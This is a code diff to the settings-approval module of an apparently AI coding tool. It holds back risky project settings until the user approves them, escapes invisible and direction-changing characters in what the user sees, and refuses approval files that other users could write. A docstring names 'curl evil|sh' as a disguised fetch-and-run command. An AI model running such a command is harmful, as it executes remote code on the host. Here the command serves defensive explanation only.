@@ -5,12 +5,13 @@ the name says personal, but nothing stops a commit of it, and a build script can
 file can ask for what runs code on the host or lets the model do more without asking: hooks,
 `"sandbox": "none"`, allow rules, a default mode of `acceptEdits` or `bypassPermissions`,
 `autoCommit` and `allowGitHooks` (git on the host, hooks included), and `env` (it reaches model
-requests and commands: a base URL, a proxy or a key sends the conversation elsewhere). Those are
-its *grants*. A project file's grants are held, left out of the merged settings, until the
-person approves that file's exact content in this workspace (`/trust` in a session, `moot trust`
-in a shell); any change to the file holds them again. What only restricts (deny and ask rules,
-plan mode, a sandbox backend, the model, the look) takes effect at once. The user's own settings
-(`<config dir>/settings.json`) are never held.
+requests and commands: a base URL, a proxy or a key sends the conversation elsewhere); and what
+weakens a safeguard: `models` (a price of 0 defeats `--max-cost`) and `snapshotMaxBytes` (0
+keeps nothing for a rewind). Those are its *grants*. A project file's grants are held, left out
+of the merged settings, until the person approves that file's exact content in this workspace
+(`/trust` in a session, `moot trust` in a shell); any change to the file holds them again.
+What only restricts (deny and ask rules, plan mode, a sandbox backend, the model, the look)
+takes effect at once. The user's own settings (`<config dir>/settings.json`) are never held.
 
 Approvals live in `<data dir>/settings-approvals.json` (0600, in a 0700 directory): workspace ->
 file -> sha256 of the approved bytes, outside the workspace and out of the sandbox's reach. When
@@ -91,9 +92,27 @@ def held_out(data: Mapping[str, Any]) -> dict[str, Any]:
     return kept
 
 
+_UNSHOWN = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
+"""Characters a terminal or a screen would act on, or not show: control characters (an escape
+sequence can erase the lines above it or retitle the window), line breaks, and the invisible
+or direction-changing ones (a right-to-left override makes `curl evil|sh` read as something
+else)."""
+
+
+def shown(text: str) -> str:
+    """`text` as a person must see it to approve it: every character that would not show as
+    itself (`_UNSHOWN`) written as an escape (`\\x1b`, `\\n`, `\\u202e`)."""
+    return _UNSHOWN.sub(lambda found: found[0].encode("unicode_escape").decode("ascii"), text)
+
+
 def _grants(data: Mapping[str, Any]) -> list[tuple[str, str]]:
     """Each grant as (the key that holds it, its phrase). Values that do not fit the schema
-    are left to the schema check (the file is refused before this matters)."""
+    are left to the schema check (the file is refused before this matters). What the file
+    wrote is shown escaped (`shown`): it is what the person approves."""
+    return [(key, shown(phrase)) for key, phrase in _found_grants(data)]
+
+
+def _found_grants(data: Mapping[str, Any]) -> list[tuple[str, str]]:
     found: list[tuple[str, str]] = []
     if data.get("sandbox") == "none":
         found.append(("sandbox", '"sandbox": "none" (shell commands run on the host, unsandboxed)'))
@@ -117,6 +136,25 @@ def _grants(data: Mapping[str, Any]) -> list[tuple[str, str]]:
     if data.get("allowGitHooks") is True:
         found.append(
             ("allowGitHooks", '"allowGitHooks" (the repository\'s git hooks run on the host)')
+        )
+    models = data.get("models")
+    if isinstance(models, Mapping) and models:
+        listed = ", ".join(str(name) for name in models)
+        found.append(
+            (
+                "models",
+                f"model entries {listed} (their prices are what moot counts and a cost limit "
+                "checks; their windows what it sends)",
+            )
+        )
+    snapshots = data.get("snapshotMaxBytes")
+    if isinstance(snapshots, int) and not isinstance(snapshots, bool):
+        found.append(
+            (
+                "snapshotMaxBytes",
+                f'"snapshotMaxBytes": {snapshots} (files larger than this are not kept, so a '
+                "rewind cannot restore them)",
+            )
         )
     env = data.get("env")
     for name, value in env.items() if isinstance(env, Mapping) else ():
@@ -211,7 +249,7 @@ class SettingsApprovals:
 
     def _load(self) -> dict[str, dict[str, str]]:
         try:
-            data = json.loads(self.path.read_bytes())
+            data = json.loads(read_own_file(self.path))
         except (OSError, ValueError):
             return {}  # none yet, or damaged: nothing is approved; writing starts it again
         if not isinstance(data, dict):
@@ -238,6 +276,27 @@ class SettingsApprovals:
             with contextlib.suppress(OSError):
                 os.unlink(temp)
             raise
+
+
+def read_own_file(path: Path) -> bytes:
+    """The bytes of an approvals file (settings, MCP servers) only this user could have
+    written: a regular file of theirs, not a link, that neither the group nor others may write.
+    A data directory someone else can write (a `MOOT_HOME` under `/tmp`, a shared account's)
+    must not let them approve a repository's hooks or servers for this person.
+
+    Raises:
+        OSError: There is none, or it is not such a file (then nothing is approved).
+    """
+    import stat
+
+    flags = os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC
+    with os.fdopen(os.open(path, flags), "rb") as file:
+        found = os.fstat(file.fileno())
+        if not stat.S_ISREG(found.st_mode) or found.st_uid != os.getuid():
+            raise PermissionError(f"{path} is not a file of this user's")
+        if found.st_mode & 0o022:
+            raise PermissionError(f"{path} is writable by others")
+        return file.read()
 
 
 def _key(workspace: Path) -> str:
